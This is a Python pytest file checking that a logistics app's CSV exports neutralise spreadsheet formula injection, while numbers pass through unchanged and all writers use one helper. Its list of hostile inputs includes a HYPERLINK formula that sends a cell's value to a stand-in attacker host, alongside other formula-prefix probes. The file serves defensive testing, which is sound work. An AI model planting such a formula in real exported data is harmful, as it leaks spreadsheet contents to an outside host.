"""CSV downloads cannot carry spreadsheet formulas (OWASP CSV injection); numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from app.platform.csv_export import safe_cell, to_csv
from tests.conftest import auth, give_holdings
from tests.integration.test_hardening_tenancy_matrix import PASSWORD, sign_in

ROOT = Path(__file__).resolve().parents[2]
DAY = "2031-03-04"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+41 22 555", "-1+1", "@SUM(A1:A9)", "\tTabbed",
           "\rReturned"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-0.10"), 0, 7, 1e-9, None, True])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value
    row = next(csv.reader(io.StringIO(to_csv(["v"], [[value]])).readlines()[1:]))
    assert row == ["" if value is None else str(value)]


@pytest.mark.parametrize("text", ["Depot Köln", "2026-11-24T08:00:00+01:00", "a=b", "ACME-1", ""])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_every_csv_writer_goes_through_the_helper():
    """The class, not the one case: no module but the helper writes CSV itself."""
    writers = [p for p in (ROOT / "app").rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text()) and p.name != "csv_export.py"]
    assert writers == []


def test_plan_csv_escapes_site_names(app, client, world):
    """Site names are typed by people; a stop list opened in a spreadsheet must not run them."""
    from app.catalog import services as catalog

    give_holdings(app, {("acme", "", "ibc"): 10, ("globex", "", "ibc"): 10})
    admin = auth(world["tokens"]["admin"])
    with app.app_context():
        for i, name in enumerate(HOSTILE):
            catalog.create("site", {"id": f"evil-{i}", "name": name, "kind": "customer", "customer_id": "acme",
                                    "lat": 51.30 + i * 0.02, "lon": 6.90 + i * 0.02})
    for i in range(len(HOSTILE)):
        r = client.post("/api/v1/return-requests", headers=admin, json={
            "site": f"evil-{i}", "counts": {"ibc": 1},
            "window": {"start": f"{DAY}T07:00:00+01:00", "end": f"{DAY}T17:00:00+01:00"}})
        assert r.status_code == 201, r.get_json()
    plan = client.post("/api/v1/plans/collections", headers=admin, json={
        "date": DAY, "depots": ["depot-a"], "time_limit_s": 1,
        "vehicles": [{"id": "v1", "capacity_units": 30, "start_depot": "depot-a"}]})
    assert plan.status_code == 201, plan.get_json()
    r = client.get(f"/api/v1/plans/{plan.get_json()['id']}.csv", headers=auth(world["tokens"]["driver"]))
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True), newline="")))
    assert sorted(row["name"] for row in rows) == sorted("'" + name for name in HOSTILE)
    for row in rows:
        float(row["lat"]), float(row["lon"]), int(row["seq"]), float(row["load_after_units"])  # numbers, unquoted
        assert not row["name"][:1] in "=+-@\t\r"


def test_portal_statement_csv_goes_through_the_helper(app, client, world, monkeypatch):
    from app.accounts import services as accounts
    from app.platform import csv_export

    with app.app_context():
        accounts.create_user("web-acme", "customer", "acme", "acme@matrix.example", PASSWORD)
    calls = []
    real = csv_export.to_csv
    monkeypatch.setattr("app.web.portal.to_csv", lambda header, rows: calls.append(1) or real(header, rows))
    r = sign_in(app, "acme").get("/portal/acme/statement.csv?start=2026-08-01&end=2026-10-01")
    assert r.status_code == 200 and r.mimetype == "text/csv" and calls == [1]
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert rows[-1]["asset_type"] == "total" and rows[-1]["closing"] == "0"
